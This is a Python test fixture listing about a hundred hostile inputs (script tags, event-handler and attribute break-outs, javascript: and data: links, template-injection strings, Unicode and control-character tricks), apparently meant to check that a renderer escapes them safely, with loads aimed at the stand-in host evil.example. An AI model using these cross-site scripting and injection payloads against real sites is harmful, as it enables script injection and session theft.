"""A hundred texts that try to become markup, to run, to load something, or to look like ours.

Whatever of them becomes an element has the attribute `data-hostile`; whatever runs calls `alert`;
whatever is loaded is asked of a machine that does not exist.
"""

_FAR = "//evil.example/x"
_TAGS = (
    "<script data-hostile>alert(1)</script>",
    f"<script data-hostile src={_FAR}></script>",
    "<ScRiPt data-hostile>alert(1)</sCrIpT>",
    "<script data-hostile\n>alert(1)</script\n>",
    "<script data-hostile type=module>alert(1)</script>",
    "<scr<script data-hostile>ipt>alert(1)</scr</script>ipt>",
    "<script data-hostile>/*",
    "*/alert(1)</script>",
    "<img data-hostile src=x onerror=alert(1)>",
    f"<img data-hostile src={_FAR}>",
    f"<img data-hostile srcset='{_FAR} 1x'>",
    "<img data-hostile src=x:alert(1) onerror=eval(src)>",
    "<image data-hostile href=x onerror=alert(1)>",
    "<svg data-hostile onload=alert(1)>",
    "<svg data-hostile><script>alert(1)</script></svg>",
    "<svg data-hostile><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    f"<svg data-hostile><use href={_FAR}#x></use></svg>",
    f"<svg data-hostile><image href={_FAR}></image></svg>",
    "<svg data-hostile><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<math data-hostile><mtext></p><script>alert(1)</script></mtext></math>",
    f"<iframe data-hostile src={_FAR}></iframe>",
    "<iframe data-hostile srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe data-hostile src=javascript:alert(1)></iframe>",
    f"<object data-hostile data={_FAR}></object>",
    f"<embed data-hostile src={_FAR}>",
    f"<link data-hostile rel=stylesheet href={_FAR}>",
    f"<link data-hostile rel=prefetch href={_FAR}>",
    f"<link data-hostile rel=dns-prefetch href={_FAR}>",
    f"<meta data-hostile http-equiv=refresh content='0;url={_FAR}'>",
    '<meta data-hostile http-equiv=Content-Security-Policy content="script-src *">',
    f"<base data-hostile href={_FAR}>",
    f"<form data-hostile action={_FAR}><button autofocus>x</button></form>",
    "<input data-hostile onfocus=alert(1) autofocus>",
    "<details data-hostile open ontoggle=alert(1)>x</details>",
    f"<video data-hostile src={_FAR} autoplay></video>",
    "<video data-hostile><source onerror=alert(1)></video>",
    f"<audio data-hostile src={_FAR} autoplay></audio>",
    f"<body data-hostile background={_FAR} onload=alert(1)>",
    f"<table data-hostile background={_FAR}></table>",
    "<marquee data-hostile onstart=alert(1)>x</marquee>",
    f"<style data-hostile>@import '{_FAR}';</style>",
    f"<style data-hostile>body{{background:url({_FAR})}}</style>",
    f"<p data-hostile style='background:url({_FAR})'>x</p>",
    "<p data-hostile style='width:expression(alert(1))'>x</p>",
    "<a data-hostile href=javascript:alert(1) autofocus>x</a>",
    "<a data-hostile href='data:text/html,<script>alert(1)</script>'>x</a>",
    f"<a data-hostile ping={_FAR} href=/>x</a>",
    "<template data-hostile shadowrootmode=open><script>alert(1)</script></template>",
    "<noscript data-hostile><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<portal data-hostile></portal><x data-hostile onpointerrawupdate=alert(1)>",
)
_BREAK_OUT = tuple(
    f"{end}<img data-hostile src=x onerror=alert(1)>"
    for end in (
        '">', "'>", "`>", "-->", "]]>", "</title>", "</textarea>", "</script>", "</style>",
        "</select>", "</option></select>", "</noscript>", "</table>", "</bdi></td>", "--!>",
        '\\">', "\\x3e", "&gt;", "%22%3E", "+ADw-",
    )
)  # fmt: skip
_ATTRIBUTES = (
    '" data-hostile onmouseover="alert(1)',
    "' data-hostile onfocus='alert(1)' autofocus='",
    '" data-hostile autofocus onfocus=alert(1) x="',
    "` data-hostile onerror=`alert(1)`",
    "x data-hostile onclick=alert(1)",
)
_LINKS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    f"[x](javascript:alert(1)) ![x](https:{_FAR})",
    f"url(https:{_FAR})",
    f"http:{_FAR}",
    "../../../v1/audit?format=html#content",
)
_TEMPLATES = (
    "{{constructor.constructor('alert(1)')()}}",
    "{% import os %}{{ 7 * 7 }}",
    "${alert(1)} #{alert(1)} <%= alert(1) %>",
    "%(name)s {0} {name!r} %s %n",
    "__proto__",
)
_SIGNS = (
    "invoice\u202egpj.exe",
    "\u2066<script data-hostile>alert(1)</script>\u2069",
    "zero\u200bwidth\ufeff\u00ad",
    "a\x00<script data-hostile>alert(1)</script>",
    "\x1b]8;;http://evil.example\x07click\x1b]8;;\x07",
    "line\u2028alert(1)\u2029line\r\nSet-Cookie: x=y",
    "\uff1cscript data-hostile\uff1ealert(1)\uff1c/script\uff1e",
    "\u202a\u202b\u202c\u202d" + "a\u0301\u0302" * 20,
    "\U000e0041\U000e0042 \ud7ff \ufffe",
    "&#60;script data-hostile&#62;alert(1)&#60;/script&#62; &lt;b&gt;",
)

PAYLOADS = (*_TAGS, *_BREAK_OUT, *_ATTRIBUTES, *_LINKS, *_TEMPLATES, *_SIGNS)
